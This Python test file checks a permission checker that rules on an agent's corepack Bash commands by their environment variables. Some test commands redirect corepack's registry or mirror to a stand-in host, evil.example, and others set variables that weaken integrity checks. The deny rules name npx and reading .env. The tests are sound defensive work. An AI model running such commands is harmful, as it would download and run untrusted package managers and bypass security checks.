"""corepack's variables judged each as what it changes (all were asked, or denied beside a
Bash deny rule, as variables that change what runs): an answer to its prompt, a strictness
or network switch, a version choice or the registry's credentials change nothing that runs;
the registry or mirror it downloads package managers from is asked as npm's `--registry`
is; its home is code it runs and a write; a switch that weakens its checks stays a variable
that changes what runs."""

from __future__ import annotations

import pytest

from tether.permissions import Decision, decide

from .conftest import ContextFactory, Tree

RULES = {
    "permissions": {
        "allow": ["Bash(corepack *)", "Bash(pnpm *)", "Bash(yarn *)", "Bash(env *)"],
        "deny": ["Bash(npx *)", "Read(.env)"],
    }
}
REGISTRY = "corepack downloads the package managers it runs from https://evil.example: not seen"
VARIABLE = (
    "which changes what programs run or load: it may run what deny rule Bash(npx *) forbids;"
    " write the command plainly"
)


@pytest.mark.parametrize(
    "command",
    [
        "COREPACK_ENABLE_DOWNLOAD_PROMPT=0 corepack pnpm install",
        "COREPACK_ENABLE_STRICT=0 pnpm install",
        "COREPACK_ENABLE_NETWORK=0 corepack yarn install",
        "COREPACK_ENABLE_AUTO_PIN=0 corepack pnpm install",
        "COREPACK_DEFAULT_TO_LATEST=0 corepack pnpm install",
        "COREPACK_NPM_TOKEN=t corepack pnpm install",
        "COREPACK_ENV_FILE=0 corepack pnpm install",
        "export COREPACK_ENABLE_DOWNLOAD_PROMPT=0; corepack pnpm install",
        "env COREPACK_ENABLE_STRICT=0 corepack pnpm install",
        "COREPACK_ENABLE_DOWNLOAD_PROMPT=0 COREPACK_ENABLE_STRICT=0 corepack yarn --version",
    ],
)
def test_settings_that_change_nothing_that_runs_are_allowed(
    command: str, make_ctx: ContextFactory
) -> None:
    verdict = decide("Bash", {"command": command}, make_ctx(RULES))
    assert verdict.behavior == "allow", verdict


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        (
            "COREPACK_NPM_REGISTRY=https://evil.example corepack pnpm install",
            f"COREPACK_NPM_REGISTRY: {REGISTRY}",
        ),
        (
            "COREPACK_ENABLE_STRICT=0 COREPACK_NPM_MIRROR=https://evil.example pnpm i",
            f"COREPACK_NPM_MIRROR: {REGISTRY}",
        ),
        (
            "env COREPACK_NPM_REGISTRY=https://evil.example corepack yarn --version",
            f"COREPACK_NPM_REGISTRY: {REGISTRY}",
        ),
        (
            "COREPACK_HOME={outside} corepack pnpm install",
            "COREPACK_HOME: corepack runs the package managers it keeps in {outside}, outside"
            " the workspace: not seen",
        ),
        (
            "COREPACK_HOME=$X corepack pnpm install",
            "COREPACK_HOME: corepack runs the package managers it keeps in …, chosen as it"
            " runs: not seen",
        ),
        ("COREPACK_HOME=.corepack corepack pnpm install", "writes {ws}/.corepack"),
    ],
)
def test_the_registry_and_home_are_judged_as_what_they_change(
    command: str, reason: str, tree: Tree, make_ctx: ContextFactory
) -> None:
    verdict = decide("Bash", {"command": tree.fill(command)}, make_ctx(RULES))
    assert verdict == Decision("ask", None, tree.fill(reason))


def test_a_home_inside_the_workspace_is_a_write_accept_edits_allows(
    make_ctx: ContextFactory,
) -> None:
    command = "COREPACK_HOME=.corepack corepack pnpm install"
    verdict = decide("Bash", {"command": command}, make_ctx(RULES, mode="acceptEdits"))
    assert verdict == Decision(
        "allow", "Bash(corepack *), Bash(pnpm *)", "allowed by Bash(corepack *), Bash(pnpm *)"
    )


@pytest.mark.parametrize(
    "name", ["COREPACK_INTEGRITY_KEYS", "COREPACK_ENABLE_UNSAFE_CUSTOM_URLS", "COREPACK_X"]
)
def test_settings_that_weaken_its_checks_stay_variables_that_change_what_runs(
    name: str, make_ctx: ContextFactory
) -> None:
    verdict = decide("Bash", {"command": f"{name}=1 corepack pnpm install"}, make_ctx(RULES))
    assert verdict == Decision("deny", "Bash(npx *)", f"sets {name}, {VARIABLE}")


def test_an_env_file_other_than_none_stays_a_variable_that_changes_what_runs(
    make_ctx: ContextFactory,
) -> None:
    command = "COREPACK_ENV_FILE=.env.corepack corepack pnpm install"
    verdict = decide("Bash", {"command": command}, make_ctx(RULES))
    assert verdict == Decision("deny", "Bash(npx *)", f"sets COREPACK_ENV_FILE, {VARIABLE}")
